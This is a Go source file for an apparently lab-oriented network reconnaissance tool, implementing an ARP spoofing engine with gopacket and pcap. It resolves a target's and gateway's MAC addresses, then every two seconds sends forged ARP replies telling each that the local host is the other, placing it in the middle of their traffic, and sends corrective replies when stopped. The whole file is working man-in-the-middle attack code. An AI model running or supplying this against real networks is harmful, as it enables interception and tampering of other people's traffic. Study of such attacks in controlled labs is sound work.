package spoofer

import (
	"fmt"
	"net"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/google/gopacket/pcap"

	"netrecon/internal/logging"
)

// Engine poisons the ARP caches of a target/gateway pair so both route
// their traffic through this host for the duration of a lab run.
type Engine struct {
	InterfaceName string
	TargetIP      net.IP
	GatewayIP     net.IP
	TargetMAC     net.HardwareAddr
	GatewayMAC    net.HardwareAddr
	HostMAC       net.HardwareAddr

	log      *logging.Logger
	handle   *pcap.Handle
	stopChan chan struct{}
	doneChan chan struct{}
	running  bool
}

// NewEngine resolves the MAC addresses of both peers up front; a peer that
// does not answer ARP is a startup failure, not something to discover
// mid-run.
func NewEngine(log *logging.Logger, targetIP, gatewayIP, iface string) (*Engine, error) {
	target := net.ParseIP(targetIP)
	gateway := net.ParseIP(gatewayIP)
	if target == nil || gateway == nil {
		return nil, fmt.Errorf("invalid target/gateway pair %q / %q", targetIP, gatewayIP)
	}

	ifi, err := net.InterfaceByName(iface)
	if err != nil {
		return nil, fmt.Errorf("interface %s: %w", iface, err)
	}

	log.Infow("resolving peer hardware addresses", "target", targetIP, "gateway", gatewayIP)
	targetMAC, err := ResolveMAC(target, iface)
	if err != nil {
		return nil, fmt.Errorf("resolve target %s: %w", targetIP, err)
	}
	gatewayMAC, err := ResolveMAC(gateway, iface)
	if err != nil {
		return nil, fmt.Errorf("resolve gateway %s: %w", gatewayIP, err)
	}
	log.Infow("peers resolved", "target_mac", targetMAC.String(), "gateway_mac", gatewayMAC.String())

	return &Engine{
		InterfaceName: iface,
		TargetIP:      target,
		GatewayIP:     gateway,
		TargetMAC:     targetMAC,
		GatewayMAC:    gatewayMAC,
		HostMAC:       ifi.HardwareAddr,
		log:           log,
		stopChan:      make(chan struct{}),
		doneChan:      make(chan struct{}),
	}, nil
}

// Start opens the injection handle and begins re-poisoning both caches
// every two seconds from a background goroutine.
func (e *Engine) Start() error {
	handle, err := pcap.OpenLive(e.InterfaceName, 65536, false, pcap.BlockForever)
	if err != nil {
		return fmt.Errorf("open injection handle: %w", err)
	}
	e.handle = handle
	e.running = true
	go e.loop()
	return nil
}

// Stop halts the poisoning loop, sends corrective ARP replies so both
// peers relearn each other's real addresses, and closes the handle.
func (e *Engine) Stop() {
	if !e.running {
		return
	}
	e.running = false
	close(e.stopChan)
	<-e.doneChan

	e.restore()
	e.handle.Close()
}

func (e *Engine) loop() {
	defer close(e.doneChan)

	ticker := time.NewTicker(2 * time.Second)
	defer ticker.Stop()

	e.poison()
	for {
		select {
		case <-e.stopChan:
			return
		case <-ticker.C:
			e.poison()
		}
	}
}

func (e *Engine) poison() {
	// Tell the target we are the gateway, and the gateway we are the target.
	if err := e.sendReply(e.HostMAC, e.GatewayIP, e.TargetMAC, e.TargetIP); err != nil {
		e.log.Warnw("poison target failed", "err", err)
	}
	if err := e.sendReply(e.HostMAC, e.TargetIP, e.GatewayMAC, e.GatewayIP); err != nil {
		e.log.Warnw("poison gateway failed", "err", err)
	}
}

func (e *Engine) restore() {
	e.log.Info("restoring peer ARP caches")
	for i := 0; i < 3; i++ {
		_ = e.sendReply(e.GatewayMAC, e.GatewayIP, e.TargetMAC, e.TargetIP)
		_ = e.sendReply(e.TargetMAC, e.TargetIP, e.GatewayMAC, e.GatewayIP)
		time.Sleep(100 * time.Millisecond)
	}
}

func (e *Engine) sendReply(srcMAC net.HardwareAddr, srcIP net.IP, dstMAC net.HardwareAddr, dstIP net.IP) error {
	eth := layers.Ethernet{
		SrcMAC:       srcMAC,
		DstMAC:       dstMAC,
		EthernetType: layers.EthernetTypeARP,
	}
	arp := layers.ARP{
		AddrType:          layers.LinkTypeEthernet,
		Protocol:          layers.EthernetTypeIPv4,
		HwAddressSize:     6,
		ProtAddressSize:   4,
		Operation:         layers.ARPReply,
		SourceHwAddress:   []byte(srcMAC),
		SourceProtAddress: []byte(srcIP.To4()),
		DstHwAddress:      []byte(dstMAC),
		DstProtAddress:    []byte(dstIP.To4()),
	}

	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}
	if err := gopacket.SerializeLayers(buf, opts, &eth, &arp); err != nil {
		return err
	}
	return e.handle.WritePacketData(buf.Bytes())
}
